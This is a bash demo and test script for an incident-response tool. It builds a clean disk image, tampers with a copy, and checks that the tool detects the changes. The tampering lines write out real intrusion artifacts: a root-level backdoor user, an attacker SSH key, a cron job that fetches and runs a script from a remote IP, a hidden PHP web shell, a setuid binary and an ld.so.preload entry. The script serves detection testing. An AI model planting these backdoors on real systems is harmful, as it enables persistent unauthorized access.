#!/bin/bash
# tests/demo.sh - the whole job on a generated demo: a small gold disk image (GPT, ext4),
# a compromised copy (changed through a read-write loop mount, as an attacker would),
# a baseline of the gold, the delta of the incident, and the findings printed.
#   tests/demo.sh [WORKDIR]      (as root: needs loop devices; default WORKDIR /tmp/deltair-demo)
set -euo pipefail
top=$(cd "$(dirname "$0")/.." && pwd)
deltair=${DELTAIR:-$top/build/deltair}
work=${1:-/tmp/deltair-demo}
[ "$(id -u)" = 0 ] || { echo "demo: run as root (it attaches loop devices)" >&2; exit 2; }
[ -x "$deltair" ] || { echo "demo: build first (make)" >&2; exit 2; }
rm -rf "$work"; mkdir -p "$work"; cd "$work"
mnt=$work/mnt; loop=
cleanup() { mountpoint -q "$mnt" && umount "$mnt"; [ -n "$loop" ] && losetup -d "$loop"; true; }
trap cleanup EXIT

say() { printf '\n== %s\n' "$*"; }
say "building a gold root filesystem tree"
root=$work/rootfs
mkdir -p "$root"/{etc/cron.d,etc/ssh,etc/systemd/system/multi-user.target.wants,root/.ssh,home/alice/.ssh,usr/bin,usr/lib,var/log,var/www/html/uploads,tmp}
chmod 1777 "$root/tmp"; chmod 700 "$root/root"
cp /etc/services /etc/protocols "$root/etc/"
printf 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n' > "$root/etc/passwd"
printf 'root:*:19000:0:99999:7:::\nalice:$6$salt$hash:19000:0:99999:7:::\n' > "$root/etc/shadow"; chmod 640 "$root/etc/shadow"
printf 'Port 22\nPermitRootLogin no\nPasswordAuthentication no\n' > "$root/etc/ssh/sshd_config"
printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGoldKeyForAliceOnly alice@laptop\n' > "$root/home/alice/.ssh/authorized_keys"
: > "$root/root/.ssh/authorized_keys"; chmod 600 "$root/root/.ssh/authorized_keys"
for b in ls cat bash sleep true; do cp "/usr/bin/$b" "$root/usr/bin/"; done
for i in $(seq 1 200); do printf '%s app log line %d\n' "2025-01-01T00:00:00Z" "$i" >> "$root/var/log/app.log"; done
printf '<?php echo "hello"; ?>\n' > "$root/var/www/html/index.php"
seq 1 5000 > "$root/usr/lib/data.txt"
chown -R 1000:1000 "$root/home/alice"

say "gold.img: GPT disk, ext4 partition made with mke2fs -d"
truncate -s 64M gold.img
sgdisk -o -n 1:2048:0 -t 1:8300 gold.img > /dev/null
end=$(sgdisk -i 1 gold.img | awk '/^Last sector:/ {print $3}')
rm -f part.ext4; truncate -s $(( (end - 2048 + 1) * 512 )) part.ext4
mke2fs -q -F -t ext4 -d "$root" part.ext4
dd if=part.ext4 of=gold.img bs=1M seek=1 conv=notrunc,sparse status=none; rm -f part.ext4

say "incident.img: a copy, compromised through a read-write loop mount"
cp --sparse=always gold.img incident.img
mkdir -p "$mnt"; loop=$(losetup -f --show -o 1048576 --sizelimit $(( (end - 2048 + 1) * 512 )) incident.img)
mount "$loop" "$mnt"
echo 'sysupdate:x:0:0::/root:/bin/bash' >> "$mnt/etc/passwd"
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKey root@kali' >> "$mnt/root/.ssh/authorized_keys"
printf '*/10 * * * * root curl -fsSL http://203.0.113.7/u.sh | sh\n' > "$mnt/etc/cron.d/sysupdate"
printf '<?php system($_REQUEST["c"]); ?>\n' > "$mnt/var/www/html/uploads/.thumb.php"
touch -r "$mnt/var/www/html/index.php" "$mnt/var/www/html/uploads/.thumb.php"
cp "$mnt/usr/bin/sleep" "$mnt/tmp/.x"; chmod 4755 "$mnt/tmp/.x"
echo /usr/lib/libnss_cache.so.2 > "$mnt/etc/ld.so.preload"
sed -i 's/PermitRootLogin no/PermitRootLogin yes/' "$mnt/etc/ssh/sshd_config"
mv "$mnt/usr/lib/data.txt" "$mnt/tmp/data.txt"
for i in 1 2 3; do echo "2025-01-04T03:17:0${i}Z app log line" >> "$mnt/var/log/app.log"; done
umount "$mnt"; losetup -d "$loop"; loop=

say "deltair baseline gold.img"
"$deltair" baseline --no-progress -o gold.dtree gold.img
"$deltair" tree info gold.dtree | sed -n '1,20p'

say "deltair scan --baseline gold.dtree incident.img  (diff, then YARA, artifacts and rows on the delta)"
rc=0; "$deltair" scan --no-progress --baseline gold.dtree -o events.jsonl -x evidence incident.img || rc=$?
echo "exit status $rc (1: delta found)"

say "findings: what changed"
jq -r 'select(.event=="file") | [.change, .fs + ":" + .path + (if .old_path then " (was " + .old_path + ")" else "" end), (.flags | join(","))] | @tsv' events.jsonl | column -t -s $'\t'
say "findings: YARA on the delta"
jq -r 'select(.event=="yara") | [.path, .rule, (.meta.severity // "")] | @tsv' events.jsonl | column -t -s $'\t'
say "findings: osquery-table rows that differ from the gold"
jq -r 'select(.event=="row") | [.action, .table, .path, (.columns | to_entries | map(select(.value != "")) | map(.key + "=" + .value) | join(" "))] | @tsv' events.jsonl | cut -c1-160
say "summary"
jq -c 'select(.event=="summary") | {counts, entries, entries_unchanged, yara: {scanned: .yara.scanned, matches: .yara.matches}, rows, elapsed}' events.jsonl
echo "extracted delta files: $work/evidence (manifest.jsonl)"
echo; echo "events: $work/events.jsonl"
[ "$rc" = 1 ]
